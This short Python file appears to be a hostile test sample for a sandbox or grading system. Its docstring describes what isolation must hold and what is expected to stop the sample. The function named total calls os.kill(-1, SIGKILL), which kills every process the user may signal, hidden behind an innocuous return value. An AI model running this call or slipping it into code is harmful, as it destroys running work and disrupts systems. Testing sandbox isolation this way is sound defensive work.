"""Sends a signal to all processes at once.

must hold: no process, thread or file is left; the next submission finds nothing changed
stopped by: filter, namespaces, comparison
control: none, it would end everything else that this user runs
"""

import os
import signal


def total(x):
    os.kill(-1, signal.SIGKILL)
    return x
